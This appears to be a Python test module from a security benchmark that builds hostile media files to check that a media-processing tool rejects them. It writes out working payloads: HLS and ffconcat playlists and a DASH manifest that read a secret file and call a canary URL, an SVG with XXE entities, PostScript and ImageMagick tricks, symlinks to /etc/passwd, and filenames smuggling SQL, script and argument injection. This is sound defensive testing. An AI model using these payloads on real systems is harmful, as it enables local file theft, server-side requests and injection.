"""Files that would have a reader open others: playlists, manifests, links; and names that are no help to anybody."""

from __future__ import annotations

import os
from collections.abc import Callable
from functools import partial
from pathlib import Path

from benchmarks.hostile.cases import Case, Scene
from benchmarks.hostile.images import saved
from benchmarks.hostile.pictures import plain

Text = Callable[[str, str], str]
"""What a playlist says, from the path of the secret and the address of the canary."""


def _hls(secret: str, url: str) -> str:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{secret}\n#EXTINF:1,\n{url}/hls.ts\n#EXT-X-ENDLIST\n"


def _hls_key(secret: str, url: str) -> str:
    return f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXTINF:1,\nconcat:{secret}|{url}/x\n#EXT-X-ENDLIST\n'


def _ffconcat(secret: str, url: str) -> str:
    return f"ffconcat version 1.0\nfile {secret}\nfile {url}/concat.mp4\n"


def _sdp(_: str, url: str) -> str:
    port = url.rpartition(":")[2]
    return f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"


def _dash(secret: str, url: str) -> str:
    base = "".join(f"<BaseURL>{place}</BaseURL>" for place in (f"{url}/dash.mp4", f"file://{secret}"))
    return f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011">{base}<Period/></MPD>'


def _svg(secret: str, url: str) -> str:
    entities = f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file://{secret}"><!ENTITY b SYSTEM "{url}/entity">]>'
    return f'<?xml version="1.0"?>{entities}<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/s"/>&a;&b;</svg>'


def _asx(_: str, url: str) -> str:
    return f'<asx version="3.0"><entry><ref href="{url}/asx"/></entry></asx>'


def _image_sequence(secret: str, _: str) -> str:
    return f"{secret}/%03d.png\n"


def _eps(secret: str, _: str) -> str:
    return f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 160 96\n({secret}) run showpage\n"


def _magick(_: str, url: str) -> str:
    return f"push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 'url({url}/mvg)'\npop graphic-context\n"


TRAPS: dict[str, Text] = {
    "playlist.mp4": _hls,
    "playlist.ts": _hls,
    "playlist.jpg": _hls,
    "playlist_with_key.mov": _hls_key,
    "concat.mp4": _ffconcat,
    "concat.mkv": _ffconcat,
    "session.mp4": _sdp,
    "manifest.webm": _dash,
    "vector.png": _svg,
    "vector.jpg": _svg,
    "redirector.wmv": _asx,
    "sequence.png": _image_sequence,
    "postscript.png": _eps,
    "drawing.gif": _magick,
}


def _trap(text: Text, ahead: bytes, path: Path, scene: Scene) -> None:
    path.write_bytes(ahead + text(str(scene.secret), scene.canary_url).encode())


def _dref(path: Path, scene: Scene) -> None:
    """A QuickTime movie whose samples lie in another file: its data reference is no longer `self-contained`."""
    from benchmarks.hostile.videos import CLIPS, write_clip

    data = bytearray(write_clip(CLIPS["h264.mov"], path).read_bytes())
    start = data.index(b"url \0\0\0\1")
    data[start : start + 8] = b"alis\0\0\0\0"
    path.write_bytes(data)


def _link(target: Callable[[Scene], str], path: Path, scene: Scene) -> None:
    path.symlink_to(target(scene))


def _inside(path: Path, scene: Scene) -> None:
    target = scene.folder / "target.png"
    target.write_bytes(saved(plain(), "PNG"))
    path.symlink_to(target)


def _loop(path: Path, _: Scene) -> None:
    path.symlink_to(path)


def _picture(path: Path, _: Scene) -> None:
    path.write_bytes(saved(plain(), "PNG"))


def _pipe(path: Path, _: Scene) -> None:
    os.mkfifo(path)


def _folder(path: Path, _: Scene) -> None:
    path.mkdir()


def _bytes(data: bytes, path: Path, _: Scene) -> None:
    path.write_bytes(data)


ODD_NAMES = (
    "a name with spaces.png",
    "percent%41%00%2e.png",
    "-rf --version.png",
    "pipe:0.png",
    "concat:a|b.png",
    "http:%2f%2fexample.invalid%2f.png",
    "%03d.png",
    "new\nline\tand\x1b[31mcolour.png",
    "<img src=x onerror=alert(1)>.png",
    "'; DROP TABLE jobs; --.png",
    "مرحبا 🐈 世界.png",
    "\u202egnp.exe.png",
    "half\udcffbyte.png",
    "x" * 240 + ".png",
)


def cases() -> list[Case]:
    """All of them."""
    return [
        *(Case(name, partial(_trap, text, b""), "error") for name, text in TRAPS.items()),
        *(Case(f"bom_{name}", partial(_trap, TRAPS[name], b"\xef\xbb\xbf"), "error") for name in ("playlist.mp4",)),
        Case("blank_first.mp4", partial(_trap, _hls, b"\n\n  "), "error"),
        Case("other_data.mov", _dref, "either", "numbers"),
        Case("link_inside.png", _inside, "frames"),
        Case("link_outside.png", partial(_link, lambda scene: str(scene.secret)), "error"),
        Case("link_to_passwords.png", partial(_link, lambda _: "/etc/passwd"), "error"),
        Case("link_to_zeros.png", partial(_link, lambda _: "/dev/zero"), "error"),
        Case("link_to_nothing.png", partial(_link, lambda _: "nothing"), "error"),
        Case("link_to_itself.png", _loop, "error"),
        Case("pipe.png", _pipe, "error"),
        Case("folder.png", _folder, "error"),
        Case("empty.png", partial(_bytes, b""), "error"),
        Case("zeros.mp4", partial(_bytes, bytes(100_000)), "error"),
        Case("text.jpg", partial(_bytes, b"not a picture\n" * 100), "error"),
        *(Case(name, _picture, "frames") for name in ODD_NAMES),
    ]
